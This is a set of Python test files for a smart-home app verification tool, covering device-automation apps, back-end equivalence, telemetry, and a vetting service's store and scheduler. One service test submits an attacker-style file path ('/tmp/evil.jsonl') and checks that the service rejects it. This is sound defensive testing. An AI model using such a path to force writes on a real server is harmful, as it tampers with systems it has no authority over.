        assert state.attribute("heaterOutlet", "switch") == "on"

    def test_no_motion_uses_emergency_setpoint(self, generator):
        # without recent motion the emergency setpoint (85) is the target:
        # 85 is not above it, so the AC stays off
        _system, state = drive(generator, self._config(["acOutlet"], "cool"),
                               [sensor("t", "temperature", 85)])
        assert state.attribute("acOutlet", "switch") == "off"
        _system, state = drive(generator, self._config(["acOutlet"], "cool"),
                               [sensor("t", "temperature", 95)])
        assert state.attribute("acOutlet", "switch") == "on"

    def test_misconfigured_both_outlets(self, generator):
        """The §2.2 user-study error: both outlets bound -> both driven."""
        _system, state = drive(
            generator, self._config(["heaterOutlet", "acOutlet"], "cool"),
            [sensor("m", "motion", "active"),
             sensor("t", "temperature", 95)])
        assert state.attribute("heaterOutlet", "switch") == "on"
        assert state.attribute("acOutlet", "switch") == "on"


class TestDehumidifierControl:
    def _config(self):
        config = SystemConfiguration()
        config.add_device("hum", "humidity-sensor")
        config.add_device("dehum", "smart-outlet")
        config.add_app("Dehumidifier Control", {
            "humiditySensor": "hum", "highHumidity": 60, "lowHumidity": 45,
            "dehumidifier": "dehum"})
        return config

    def test_on_above_band(self, generator):
        _s, state = drive(generator, self._config(),
                          [sensor("hum", "humidity", 80)])
        assert state.attribute("dehum", "switch") == "on"

    def test_off_below_band(self, generator):
        _s, state = drive(generator, self._config(),
                          [sensor("hum", "humidity", 80),
                           sensor("hum", "humidity", 20)])
        assert state.attribute("dehum", "switch") == "off"

    def test_hysteresis_band_no_change(self, generator):
        _s, state = drive(generator, self._config(),
                          [sensor("hum", "humidity", 80),
                           sensor("hum", "humidity", 50)])
        # 50 is inside the 45..60 band: keep running
        assert state.attribute("dehum", "switch") == "on"


class TestThermostatWindowWatcher:
    def _config(self):
        config = SystemConfiguration()
        config.add_device("win", "smartsense-multi")
        config.add_device("tstat", "thermostat")
        config.add_app("Thermostat Window Watcher", {
            "contacts": ["win"], "tstat": "tstat"})
        return config

    def test_open_window_kills_hvac(self, generator):
        _s, state = drive(generator, self._config(),
                          [sensor("win", "contact", "open")])
        assert state.attribute("tstat", "thermostatMode") == "off"

    def test_closing_restores_auto(self, generator):
        _s, state = drive(generator, self._config(),
                          [sensor("win", "contact", "open"),
                           sensor("win", "contact", "closed")])
        assert state.attribute("tstat", "thermostatMode") == "auto"


class TestCurlingIronTimeout:
    def test_schedules_then_turns_off(self, generator):
        config = SystemConfiguration()
        config.add_device("iron", "smart-outlet")
        config.add_device("m", "smartsense-motion")
        config.add_app("Curling Iron Timeout", {"outlet": "iron",
                                                "minutes": 30})
        config.add_app("Brighten My Path", {"motion1": "m",
                                            "switch1": "iron"})
        system, state = drive(generator, config,
                              [sensor("m", "motion", "active")])
        assert state.attribute("iron", "switch") == "on"
        assert ("Curling Iron Timeout", "turnOff", False) in state.schedules
        # the timer fires as an external event
        monitor = SafetyMonitor(system, build_properties())
        Cascade(system, state, monitor).run_external(
            timer("Curling Iron Timeout", "turnOff"))
        assert state.attribute("iron", "switch") == "off"
        # one-shot: the schedule is consumed
        assert ("Curling Iron Timeout", "turnOff", False) not in state.schedules


class TestDoorLeftOpenAlert:
    def test_alert_when_still_open(self, generator):
        config = SystemConfiguration(contacts=["+1-555-0100"])
        config.add_device("door", "smartsense-multi")
        config.add_app("Door Left Open Alert", {
            "contact1": "door", "openMinutes": 5, "phone1": "+1-555-0100"})
        system, state = drive(generator, config,
                              [sensor("door", "contact", "open")])
        monitor = SafetyMonitor(system, build_properties())
        cascade = Cascade(system, state, monitor)
        cascade.run_external(timer("Door Left Open Alert", "stillOpen"))
        assert any("SMS" in s.text for s in cascade.steps
                   if s.kind == "message")

    def test_no_alert_after_close(self, generator):
        config = SystemConfiguration(contacts=["+1-555-0100"])
        config.add_device("door", "smartsense-multi")
        config.add_app("Door Left Open Alert", {
            "contact1": "door", "openMinutes": 5, "phone1": "+1-555-0100"})
        system, state = drive(generator, config,
                              [sensor("door", "contact", "open"),
                               sensor("door", "contact", "closed")])
        monitor = SafetyMonitor(system, build_properties())
        cascade = Cascade(system, state, monitor)
        cascade.run_external(timer("Door Left Open Alert", "stillOpen"))
        assert not any("SMS" in s.text for s in cascade.steps
                       if s.kind == "message")


class TestMotionAnnouncer:
    def test_silent_at_home(self, generator):
        config = SystemConfiguration(contacts=["+1-555-0100"])
        config.add_device("m", "smartsense-motion")
        config.add_app("Motion Announcer", {"motion1": "m",
                                            "phone1": "+1-555-0100"})
        system, state = drive(generator, config,
                              [sensor("m", "motion", "active")])
        assert state.mode == "Home"  # and no message sent while home

    def test_announces_in_away_mode(self, generator):
        config = SystemConfiguration(contacts=["+1-555-0100"])
        config.add_device("m", "smartsense-motion")
        config.add_device("p", "smartsense-presence")
        config.add_app("Auto Mode Change", {"people": ["p"],
                                            "awayMode": "Away",
                                            "homeMode": "Home"})
        config.add_app("Motion Announcer", {"motion1": "m",
                                            "phone1": "+1-555-0100"})
        system, state = drive(generator, config,
                              [sensor("p", "presence", "not present")])
        monitor = SafetyMonitor(system, build_properties())
        cascade = Cascade(system, state, monitor)
        cascade.run_external(sensor("m", "motion", "active"))
        assert state.mode == "Away"
        assert any("SMS" in s.text for s in cascade.steps
                   if s.kind == "message")


class TestThermostatModeDirector:
    def test_setback_on_away(self, generator):
        config = SystemConfiguration()
        config.add_device("tstat", "thermostat")
        config.add_device("p", "smartsense-presence")
        config.add_app("Auto Mode Change", {"people": ["p"],
                                            "awayMode": "Away",
                                            "homeMode": "Home"})
        config.add_app("Thermostat Mode Director", {
            "tstat": "tstat", "comfortHeat": 70, "setbackHeat": 60})
        _s, state = drive(generator, config,
                          [sensor("p", "presence", "not present")])
        assert float(state.attribute("tstat", "heatingSetpoint")) <= 60
