"""Differential suite: compiled execution must match the interpreter.

The closure compiler (:mod:`repro.model.compiler`) replaces the tree
interpreter on the exploration hot path; the interpreter remains the
semantic oracle.  These tests run the *full bundled corpus* - market,
malicious and discovery apps - through both back-ends and assert the
observable outcomes are identical: explored states, transitions, and the
counterexample dedup-key sets of whole verification runs.
"""

import pytest

from repro import build_system
from repro.attribution.enumerator import ConfigurationEnumerator
from repro.config.schema import SystemConfiguration
from repro.corpus import load_all_apps, load_discovery_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.devices.catalog import DEVICE_TYPES
from repro.engine import EngineOptions, ExplorationEngine
from repro.model.compiler import compile_program
from repro.model.generator import ModelGenerator
from repro.properties import build_properties, select_relevant
from repro.translator.lowering import lower_program

from tests.conftest import _load_or_skip


def _zoo_deployment():
    """One device of every modeled type: a home any app can bind into."""
    config = SystemConfiguration(contacts=["+1-555-0100"])
    for index, type_name in enumerate(sorted(DEVICE_TYPES)):
        config.add_device("zoo%02d" % index, type_name)
    return config


@pytest.fixture(scope="module")
def corpus():
    registry = _load_or_skip(load_all_apps)
    try:
        registry.update(load_discovery_apps())
    except Exception:
        pass  # discovery corpus optional for this suite
    return registry


@pytest.fixture(scope="module")
def zoo():
    return _zoo_deployment()


def _verify_both(system, properties, **option_kwargs):
    results = {}
    for label, compiled in (("compiled", True), ("interpreted", False)):
        options = EngineOptions(compiled=compiled, **option_kwargs)
        results[label] = ExplorationEngine(system, properties, options).run()
    return results["compiled"], results["interpreted"]


def _assert_equivalent(compiled, interpreted, context):
    assert compiled.states_explored == interpreted.states_explored, context
    assert compiled.transitions == interpreted.transitions, context
    assert (sorted(compiled.counterexamples)
            == sorted(interpreted.counterexamples)), context
    # event paths must also match per counterexample, not just dedup keys
    for key, ce in compiled.counterexamples.items():
        assert (ce.event_labels()
                == interpreted.counterexamples[key].event_labels()), context


class TestWholeCorpusCompiles:
    def test_every_corpus_app_compiles(self, corpus):
        """The compiler must handle every construct the corpus uses -
        no app may silently fall back to the interpreter."""
        failures = []
        for name, app in sorted(corpus.items()):
            try:
                program = compile_program(lower_program(app.program))
            except Exception as exc:
                failures.append("%s: %s" % (name, exc))
                continue
            assert program.methods is not None
        assert not failures, "uncompilable corpus apps:\n" + "\n".join(failures)


class TestPerAppDifferential:
    """Every corpus app, auto-configured into the zoo home, explored by
    both back-ends with identical outcomes."""

    def test_full_corpus_compiled_equals_interpreted(self, corpus, zoo):
        enumerator = ConfigurationEnumerator(zoo)
        checked = 0
        for name, smart_app in sorted(corpus.items()):
            bindings = next(iter(
                enumerator.enumerate_bindings(smart_app, limit=1)), None)
            if bindings is None:
                bindings = {}
            config = _zoo_deployment()
            config.add_app(name, bindings)
            try:
                system = ModelGenerator(corpus).build(config, strict=False)
            except Exception:
                continue  # un-installable in the zoo (strict build issues)
            properties = select_relevant(system, build_properties())
            compiled, interpreted = _verify_both(
                system, properties, max_events=2, max_states=300)
            _assert_equivalent(compiled, interpreted, "app %r" % name)
            checked += 1
        # the bundled corpus is 57 market + 9 malicious + 4 discovery
        # apps; virtually all of them must be installable in the zoo
        assert checked >= 60, "only %d corpus apps exercised" % checked


class TestGroupDifferential:
    """The six §10.1 expert groups: multi-app interaction, real violation
    sets, identical under both back-ends."""

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    def test_group_compiled_equals_interpreted(self, group_name):
        registry = _load_or_skip(load_all_apps)
        system = ModelGenerator(registry).build(GROUP_BUILDERS[group_name]())
        properties = select_relevant(system, build_properties())
        compiled, interpreted = _verify_both(
            system, properties, max_events=2, max_states=5000)
        _assert_equivalent(compiled, interpreted, group_name)

    def test_group1_with_failures_and_concurrent(self):
        """Failure enumeration and the concurrent design go through the
        same executors; both must stay back-end independent."""
        registry = _load_or_skip(load_all_apps)
        config = GROUP_BUILDERS["group1-entry-and-mode"]()
        system = ModelGenerator(registry).build(config, enable_failures=True)
        properties = select_relevant(system, build_properties())
        compiled, interpreted = _verify_both(
            system, properties, max_events=1, max_states=2000)
        _assert_equivalent(compiled, interpreted, "group1+failures")

        system = ModelGenerator(registry).build(config)
        compiled, interpreted = _verify_both(
            system, properties, max_events=2, max_states=2000,
            mode="concurrent")
        _assert_equivalent(compiled, interpreted, "group1+concurrent")
