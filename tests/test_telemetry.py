"""The run telemetry subsystem (:mod:`repro.obs`).

The observability tentpole's acceptance bar, pinned as tests:

* **versioned sink round-trip** - every JSONL line carries the schema
  version, :func:`read_events` parses what a session wrote and refuses
  lines stamped by a newer schema;
* **snapshot monotonicity** - the progress stream's states, transitions
  and elapsed clocks never run backwards, inline or sharded;
* **digest neutrality** - telemetry is a pure observer, so no sink /
  meter / board configuration may change a job's content-addressed
  cache key;
* **outcome equivalence** - verdicts, violation sets and rendered
  counterexample traces are byte-identical with telemetry on vs off,
  across all three engine tiers and with ``workers=2``;
* **service surface** - ``/metrics`` answers exposition a strict parser
  accepts with advancing counters, and ``/jobs/<id>/progress`` serves
  the board snapshot.
"""

import io
import json
import pickle
import threading

import pytest

from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.engine import (
    EngineOptions,
    ExplorationResult,
    VerificationJob,
    explore_sharded,
)
from repro.engine.batch import execute_job_inline
from repro.engine.result import BatchResult
from repro.obs import (
    PROGRESS_BOARD,
    TELEMETRY_SCHEMA_VERSION,
    MetricsRegistry,
    TelemetryConfig,
    TelemetrySession,
    parse_exposition,
    read_events,
    render_exposition,
    render_report,
    resolve_telemetry,
)
from repro.obs.progress import ProgressMeter
from repro.obs.report import sparkline, throughput_series
from repro.obs.telemetry import open_session

from tests.conftest import _load_or_skip


def _group_job(group_name="group1-entry-and-mode", **option_kwargs):
    _load_or_skip(load_all_apps)
    option_kwargs.setdefault("max_events", 2)
    return VerificationJob(group_name, GROUP_BUILDERS[group_name](),
                           EngineOptions(**option_kwargs), strict=False)


def _rendered_traces(result):
    return {key: ce.describe() for key, ce in result.counterexamples.items()}


# ---------------------------------------------------------------------------
# config + sink round trip
# ---------------------------------------------------------------------------


class TestConfigAndSink:
    def test_resolve_forms(self, tmp_path):
        path = str(tmp_path / "run.jsonl")
        assert resolve_telemetry(None) is None
        config = TelemetryConfig(path=path)
        assert resolve_telemetry(config) is config
        assert resolve_telemetry(path).path == path
        from_dict = resolve_telemetry({"path": path, "job": "j1",
                                       "interval": 64})
        assert (from_dict.path, from_dict.job, from_dict.interval) \
            == (path, "j1", 64)
        with pytest.raises(TypeError):
            resolve_telemetry(42)

    def test_enabled_and_gap(self):
        assert not TelemetryConfig().enabled
        assert TelemetryConfig(path="x").enabled
        assert TelemetryConfig(progress=True).enabled
        assert TelemetryConfig(job="job-1").enabled
        # the gap is floored by both the time-check cadence and the
        # configured interval
        assert TelemetryConfig(interval=10).snapshot_gap(256) == 256
        assert TelemetryConfig(interval=1000).snapshot_gap(256) == 1000
        assert TelemetryConfig(interval=1).snapshot_gap(0) == 1

    def test_config_pickles(self):
        config = TelemetryConfig(path="run.jsonl", progress=True,
                                 job="job-9", interval=128)
        clone = pickle.loads(pickle.dumps(config))
        assert (clone.path, clone.progress, clone.job, clone.interval) \
            == (config.path, config.progress, config.job, config.interval)

    def test_disabled_session_is_none(self):
        assert open_session(None) is None
        assert open_session(TelemetryConfig()) is None

    def test_versioned_round_trip(self, tmp_path):
        path = str(tmp_path / "run.jsonl")
        session = open_session(TelemetryConfig(path=path, job="job-1"))
        session.run_start(EngineOptions(max_events=2), workers=1)
        session.snapshot({"states": 10, "transitions": 20, "frontier": 3})
        session.span("explore", 0.25)
        result = ExplorationResult()
        result.states_explored = 10
        result.transitions = 20
        result.elapsed = 0.5
        session.run_end(result)
        session.close()
        events = read_events(path)
        assert [e["kind"] for e in events] \
            == ["run_start", "snapshot", "span", "run_end"]
        assert all(e["v"] == TELEMETRY_SCHEMA_VERSION for e in events)
        assert all(e["job"] == "job-1" for e in events)
        assert events[1]["states"] == 10
        assert events[2] == dict(events[2], name="explore", seconds=0.25)
        assert events[3]["verdict"] == "safe"

    def test_reader_refuses_newer_schema(self, tmp_path):
        path = tmp_path / "future.jsonl"
        path.write_text(json.dumps(
            {"v": TELEMETRY_SCHEMA_VERSION + 1, "kind": "snapshot"}) + "\n")
        with pytest.raises(ValueError, match="schema version"):
            read_events(str(path))

    def test_reader_flags_malformed_line(self, tmp_path):
        path = tmp_path / "broken.jsonl"
        path.write_text('{"v": 1, "kind": "snapshot"}\n\n{oops\n')
        with pytest.raises(ValueError, match="line 3"):
            read_events(str(path))


# ---------------------------------------------------------------------------
# engine instrumentation
# ---------------------------------------------------------------------------


class TestEngineSnapshots:
    def test_inline_snapshots_are_monotonic(self, tmp_path):
        path = str(tmp_path / "run.jsonl")
        result = execute_job_inline(_group_job(
            check_interval=16, telemetry={"path": path, "interval": 16}))
        events = read_events(path)
        snapshots = [e for e in events if e["kind"] == "snapshot"]
        assert snapshots, "a depth-2 group run must snapshot at least once"
        for field in ("states", "transitions", "elapsed"):
            series = [s[field] for s in snapshots]
            assert series == sorted(series), (field, series)
        end = [e for e in events if e["kind"] == "run_end"][-1]
        assert end["states"] == result.states_explored
        assert end["transitions"] == result.transitions
        span_names = {e["name"] for e in events if e["kind"] == "span"}
        assert "explore" in span_names

    def test_sharded_sink_has_cluster_and_shard_views(self, tmp_path):
        path = str(tmp_path / "sharded.jsonl")
        result = explore_sharded(_group_job(
            workers=2, check_interval=16,
            telemetry={"path": path, "interval": 16}))
        events = read_events(path)
        start = next(e for e in events if e["kind"] == "run_start")
        assert start["workers"] == 2
        shard_views = [e for e in events if e["kind"] == "shard_snapshot"]
        assert {e["worker"] for e in shard_views} <= {0, 1}
        cluster = [e for e in events if e["kind"] == "snapshot"]
        assert cluster, "worker snapshots must merge into cluster views"
        for field in ("states", "transitions", "elapsed"):
            series = [s[field] for s in cluster]
            assert series == sorted(series), (field, series)
        assert all("workers_reporting" in s for s in cluster)
        end = [e for e in events if e["kind"] == "run_end"][-1]
        assert end["states"] == result.states_explored
        assert end["workers"] == 2

    def test_board_publication(self, tmp_path):
        job_key = "test-board-job"
        PROGRESS_BOARD.discard(job_key)
        try:
            execute_job_inline(_group_job(
                check_interval=16,
                telemetry={"job": job_key, "interval": 16}))
            final = PROGRESS_BOARD.latest(job_key)
            assert final is not None and final.get("final") is True
            assert final["verdict"] == "violated"
        finally:
            PROGRESS_BOARD.discard(job_key)


# ---------------------------------------------------------------------------
# neutrality: digests and outcomes
# ---------------------------------------------------------------------------


class TestTelemetryNeutrality:
    def test_cache_key_ignores_telemetry(self, tmp_path):
        from repro.service.digest import job_cache_key

        baseline = job_cache_key(_group_job())
        for telemetry in (str(tmp_path / "run.jsonl"),
                          {"progress": True},
                          {"job": "job-1", "interval": 7},
                          TelemetryConfig(path=str(tmp_path / "b.jsonl"),
                                          job="x")):
            assert job_cache_key(_group_job(telemetry=telemetry)) \
                == baseline, telemetry

    @pytest.mark.parametrize("engine", ["interpreted", "compiled", "codegen"])
    def test_outcomes_identical_across_tiers(self, engine, tmp_path):
        plain = execute_job_inline(_group_job(engine=engine))
        observed = execute_job_inline(_group_job(
            engine=engine, check_interval=16,
            telemetry={"path": str(tmp_path / (engine + ".jsonl")),
                       "interval": 16}))
        assert observed.verdict == plain.verdict
        assert sorted(observed.counterexamples) \
            == sorted(plain.counterexamples)
        assert _rendered_traces(observed) == _rendered_traces(plain)
        assert observed.states_explored == plain.states_explored
        assert observed.transitions == plain.transitions

    def test_outcomes_identical_sharded(self, tmp_path):
        plain = explore_sharded(_group_job(workers=2))
        observed = explore_sharded(_group_job(
            workers=2, check_interval=16,
            telemetry={"path": str(tmp_path / "sharded.jsonl"),
                       "interval": 16}))
        assert observed.verdict == plain.verdict
        assert sorted(observed.counterexamples) \
            == sorted(plain.counterexamples)
        assert _rendered_traces(observed) == _rendered_traces(plain)
        assert observed.states_explored == plain.states_explored


# ---------------------------------------------------------------------------
# prometheus exposition
# ---------------------------------------------------------------------------


class TestExposition:
    def test_render_parse_round_trip(self):
        registry = MetricsRegistry()
        registry.counter("repro_test_total", "help, with punctuation").inc(3)
        jobs = registry.gauge("repro_test_jobs", "per-job gauge")
        jobs.set(7, job="job-1")
        jobs.set(9.5, job='we"ird,name')
        text = render_exposition(registry)
        assert "# TYPE repro_test_total counter" in text
        parsed = parse_exposition(text)
        assert parsed["repro_test_total"][()] == 3.0
        assert parsed["repro_test_jobs"][(("job", "job-1"),)] == 7.0
        assert parsed["repro_test_jobs"][(("job", 'we"ird,name'),)] == 9.5

    @pytest.mark.parametrize("line", [
        "no_value_here",
        'bad{label="x} 1',
        "bad name 1 2 3 extra",
        "metric notanumber",
    ])
    def test_parser_rejects_malformed(self, line):
        with pytest.raises(ValueError):
            parse_exposition(line + "\n")


# ---------------------------------------------------------------------------
# service endpoints
# ---------------------------------------------------------------------------


class TestServiceEndpoints:
    def _serve(self):
        from repro.service import ServiceClient, create_server

        server, service = create_server(port=0)
        host, port = server.server_address
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        client = ServiceClient("http://%s:%d" % (host, port))
        return server, service, client

    def test_metrics_and_progress(self):
        _load_or_skip(load_all_apps)
        server, service, client = self._serve()
        try:
            before = parse_exposition(client.metrics())
            assert before["repro_scheduler_executed_total"][()] == 0.0
            snap = client.submit({"group": "group1-entry-and-mode",
                                  "options": {"max_events": 2},
                                  "wait": 60})
            assert snap["status"] == "done"
            progress = client.job_progress(snap["id"])
            assert progress["status"] == "done"
            assert progress["result"]["states"] > 0
            assert progress["snapshot"]["final"] is True
            after = parse_exposition(client.metrics())
            assert after["repro_scheduler_executed_total"][()] == 1.0
            assert after["repro_scheduler_jobs"][()] == 1.0
            assert after["repro_job_states"][(("job", snap["id"]),)] \
                == progress["result"]["states"]
            from repro.service import ServiceError

            with pytest.raises(ServiceError):
                client.job_progress("job-999")
        finally:
            service.shutdown()
            server.shutdown()
            server.server_close()

    def test_submission_may_not_set_telemetry(self):
        from repro.service.api import SubmissionError, VettingService

        # a client must not be able to cause server-side file writes
        with pytest.raises(SubmissionError, match="telemetry"):
            VettingService._payload_options(
                {"telemetry": {"path": "/tmp/evil.jsonl"}})


# ---------------------------------------------------------------------------
# report renderer + progress meter
# ---------------------------------------------------------------------------


class TestReportRenderer:
    def test_sparkline_scaling(self):
        assert sparkline([]) == ""
        assert sparkline([5, 5, 5]) == "▄▄▄"
        line = sparkline([0, 50, 100])
        assert line[0] == "▁" and line[-1] == "█"

    def test_throughput_series(self):
        snaps = [{"states": 100, "elapsed": 1.0},
                 {"states": 300, "elapsed": 2.0},
                 {"states": 300, "elapsed": 2.0}]  # zero-gap sample dropped
        assert throughput_series(snaps) == [100.0, 200.0]

    def test_render_report_sections(self, tmp_path):
        path = str(tmp_path / "run.jsonl")
        explore_sharded(_group_job(
            workers=2, check_interval=16,
            telemetry={"path": path, "interval": 16}))
        report = render_report(read_events(path))
        assert "shape: depth 2" in report
        assert "outcome: violated" in report
        assert "phases:" in report and "explore" in report
        assert "shards:" in report
        assert render_report([]) == "empty telemetry sink (no events)"

    def test_progress_meter_renders_and_repaints(self):
        stream = io.StringIO()
        meter = ProgressMeter(label="job-1", stream=stream, refresh=0.0)
        meter.update({"states": 1500, "transitions": 4000, "elapsed": 2.0,
                      "frontier": 12, "depth": 3, "cache_hit_rate": 0.5},
                     force=True)
        meter.close()
        text = stream.getvalue()
        assert "job-1" in text
        assert "1,500 states" in text
        assert "frontier 12" in text
        assert text.endswith("\n")


# ---------------------------------------------------------------------------
# summary satellites
# ---------------------------------------------------------------------------


class TestSummarySatellites:
    def test_summary_prints_cache_watchdog_reason(self):
        result = ExplorationResult()
        result.cache_disable_reason = ("hit rate 1.2% below 5.0% after "
                                       "4096 lookups")
        assert "cache watchdog: hit rate 1.2%" in result.summary()
        assert "cache watchdog" not in ExplorationResult().summary()

    def test_batch_summary_aggregate_throughput(self):
        batch = BatchResult()
        for name, states in (("a", 600), ("b", 400)):
            result = ExplorationResult()
            result.states_explored = states
            result.elapsed = 0.5
            batch.add(name, result)
        batch.elapsed = 2.0
        summary = batch.summary()
        assert "aggregate throughput: 500 states/s over 2 job(s)" in summary

    def test_batch_summary_skips_throughput_without_elapsed(self):
        assert "aggregate throughput" not in BatchResult().summary()


# ---------------------------------------------------------------------------
# warnings + swarm events
# ---------------------------------------------------------------------------


class TestWarningAndSwarmEvents:
    def test_warning_counter_increments_per_name(self, tmp_path):
        path = str(tmp_path / "run.jsonl")
        session = open_session(TelemetryConfig(path=path))
        session.warning("bitstate_saturation", fill_ratio=0.7)
        session.warning("bitstate_saturation", fill_ratio=0.9)
        session.warning("other", detail="x")
        session.close()
        assert session.warning_counts == {"bitstate_saturation": 2,
                                          "other": 1}
        events = [e for e in read_events(path) if e["kind"] == "warning"]
        assert [(e["name"], e["count"]) for e in events] \
            == [("bitstate_saturation", 1), ("bitstate_saturation", 2),
                ("other", 1)]
        assert events[1]["fill_ratio"] == 0.9

    def test_saturated_bitstate_run_warns(self, tmp_path):
        """An engine run whose bitstate field crosses the saturation
        threshold must leave a ``bitstate_saturation`` warning in the
        sink - the run is silently losing coverage past that point."""
        path = str(tmp_path / "run.jsonl")
        execute_job_inline(_group_job(visited="bitstate-k", bitstate_bits=8,
                                      telemetry=path))
        warnings = [e for e in read_events(path) if e["kind"] == "warning"]
        assert len(warnings) == 1
        event = warnings[0]
        assert event["name"] == "bitstate_saturation"
        assert event["count"] == 1
        assert event["fill_ratio"] > 0.5
        assert event["stored"] > 0

    def test_unsaturated_run_does_not_warn(self, tmp_path):
        path = str(tmp_path / "run.jsonl")
        execute_job_inline(_group_job(visited="bitstate-k",
                                      telemetry=path))  # roomy default field
        assert not [e for e in read_events(path) if e["kind"] == "warning"]

    def test_swarm_run_logs_members_and_mode(self, tmp_path):
        path = str(tmp_path / "run.jsonl")
        execute_job_inline(_group_job(mode="swarm", swarm_members=2, seed=5,
                                      telemetry=path))
        events = read_events(path)
        start = next(e for e in events if e["kind"] == "run_start")
        assert start["mode"] == "swarm"
        assert start["seed"] == 5 and start["swarm_members"] == 2
        members = [e for e in events if e["kind"] == "swarm_member"]
        assert [e["member"] for e in members] == [0, 1]
        assert all(e["elapsed"] >= 0 for e in members)
        end = next(e for e in events if e["kind"] == "run_end")
        assert end["states"] == sum(e["states"] for e in members)
