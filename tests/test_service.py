"""The continuous vetting service: store, scheduler, HTTP API, CLI verbs."""

import json
import threading

import pytest

from repro import build_system
from repro.checker.trace import render_violation_log
from repro.cli import main as cli_main
from repro.config.schema import SystemConfiguration
from repro.engine import EngineOptions, ExplorationEngine
from repro.engine.batch import VerificationJob
from repro.properties import build_properties, select_relevant
from repro.service import (
    ResultStore,
    Scheduler,
    ServiceClient,
    ServiceError,
    create_server,
)
from repro.service.store import STORE_SCHEMA_VERSION


def _alice_job(alice_config, name="alice", **option_kwargs):
    option_kwargs.setdefault("max_events", 2)
    return VerificationJob(name, alice_config, EngineOptions(**option_kwargs),
                           strict=False)


def _raise_io_error(*_args, **_kwargs):
    raise OSError("disk full")


def _run_one(store, job):
    scheduler = Scheduler(store, workers=1)
    record = scheduler.submit(job)
    scheduler.run_pending()
    assert record.status == "done", record.error
    return scheduler, record


# ---------------------------------------------------------------------------
# ResultStore
# ---------------------------------------------------------------------------


class TestResultStore:
    def test_put_get_round_trip(self, alice_config):
        with ResultStore(":memory:") as store:
            _scheduler, record = _run_one(store, _alice_job(alice_config))
            stored = store.get(record.cache_key)
            assert stored is not None
            assert stored.verdict == "violated"
            assert stored.raw_json == record.result.to_json()
            assert stored.result.to_dict() == record.result.to_dict()
            assert stored.config == alice_config.to_dict()

    def test_get_touch_accounting(self, alice_config):
        with ResultStore(":memory:") as store:
            _scheduler, record = _run_one(store, _alice_job(alice_config))
            assert store.get(record.cache_key).hits == 0
            assert store.get(record.cache_key).hits == 1
            assert store.get(record.cache_key, touch=False).hits == 2

    def test_missing_key(self):
        with ResultStore(":memory:") as store:
            assert store.get("0" * 64) is None
            assert "0" * 64 not in store

    def test_file_backed_wal_and_reopen(self, tmp_path, alice_config):
        path = str(tmp_path / "results.sqlite")
        store = ResultStore(path)
        mode = store._conn.execute("PRAGMA journal_mode").fetchone()[0]
        assert mode == "wal"
        _scheduler, record = _run_one(store, _alice_job(alice_config))
        store.close()
        with ResultStore(path) as reopened:
            assert reopened.get(record.cache_key).verdict == "violated"

    def test_schema_version_mismatch_resets(self, tmp_path, alice_config):
        path = str(tmp_path / "results.sqlite")
        store = ResultStore(path)
        _scheduler, record = _run_one(store, _alice_job(alice_config))
        with store._conn:
            store._conn.execute(
                "UPDATE meta SET value='0' WHERE key='schema_version'")
        store.close()
        with ResultStore(path) as reopened:
            # a cache written by an incompatible layout starts over
            assert len(reopened) == 0
            assert reopened.stats()["schema_version"] == STORE_SCHEMA_VERSION

    def test_gc_by_age_and_keep(self, alice_config):
        with ResultStore(":memory:") as store:
            scheduler = Scheduler(store, workers=1)
            records = []
            for max_events in (1, 2):
                records.append(scheduler.submit(
                    _alice_job(alice_config, max_events=max_events)))
            scheduler.run_pending()
            assert len(store) == 2
            assert store.gc(max_age=0.0) == 2  # everything is "too old"
            assert len(store) == 0
            for record in records:
                store.put(record.cache_key, record.result)
            store.get(records[1].cache_key)  # most recently accessed
            assert store.gc(keep=1) == 1
            assert store.get(records[1].cache_key, touch=False) is not None

    def test_stats_and_entries(self, alice_config):
        with ResultStore(":memory:") as store:
            _scheduler, record = _run_one(store, _alice_job(alice_config))
            stats = store.stats()
            assert stats["entries"] == 1 and stats["violated"] == 1
            entries = store.entries()
            assert len(entries) == 1
            assert entries[0]["cache_key"] == record.cache_key
            assert "result_json" not in entries[0]


# ---------------------------------------------------------------------------
# Scheduler
# ---------------------------------------------------------------------------


class TestScheduler:
    def test_cache_short_circuits_second_submission(self, alice_config):
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1)
        first = scheduler.submit(_alice_job(alice_config))
        scheduler.run_pending()
        assert scheduler.executed == 1
        second = scheduler.submit(_alice_job(alice_config, name="resubmit"))
        # served from the store: done immediately, no engine run
        assert second.done and second.from_cache
        assert scheduler.executed == 1
        assert scheduler.cache_hits == 1
        assert second.result.to_dict() == first.result.to_dict()

    def test_inflight_dedup_attaches_to_twin(self, alice_config):
        scheduler = Scheduler(ResultStore(":memory:"), workers=1)
        first = scheduler.submit(_alice_job(alice_config))
        twin = scheduler.submit(_alice_job(alice_config, name="burst-twin"))
        assert twin is first
        assert scheduler.dedup_hits == 1
        assert scheduler.stats()["jobs"] == 1
        scheduler.run_pending()
        assert first.done and not first.from_cache

    def test_priority_orders_the_drain(self, alice_config):
        scheduler = Scheduler(ResultStore(":memory:"), workers=1)
        low = scheduler.submit(_alice_job(alice_config, max_events=1),
                               priority=0)
        high = scheduler.submit(_alice_job(alice_config, max_events=2),
                                priority=5)
        finished = scheduler.run_pending()
        assert [record.id for record in finished] == [high.id, low.id]

    def test_cheaper_job_first_within_a_priority_band(self, alice_config):
        scheduler = Scheduler(ResultStore(":memory:"), workers=1)
        deep = scheduler.submit(_alice_job(alice_config, max_events=3))
        shallow = scheduler.submit(_alice_job(alice_config, max_events=1))
        finished = scheduler.run_pending()
        assert [record.id for record in finished] == [shallow.id, deep.id]

    def test_failed_job_is_not_cached(self, alice_config):
        store = ResultStore(":memory:")
        scheduler = Scheduler(store, workers=1)
        broken = SystemConfiguration.from_dict(alice_config.to_dict())
        broken.apps[0].app = "No Such App"
        record = scheduler.submit(
            VerificationJob("broken", broken, EngineOptions(max_events=1),
                            strict=True))
        scheduler.run_pending()
        assert record.status == "error"
        assert record.verdict == "error"
        assert record.error
        assert len(store) == 0

    def test_duplicate_submission_boosts_queued_twin_priority(
            self, alice_config):
        scheduler = Scheduler(ResultStore(":memory:"), workers=1,
                              batch_size=1)
        sweep = scheduler.submit(_alice_job(alice_config, max_events=2),
                                 priority=0)
        other = scheduler.submit(_alice_job(alice_config, max_events=1),
                                 priority=3)
        twin = scheduler.submit(_alice_job(alice_config, max_events=2,
                                           name="interactive"), priority=9)
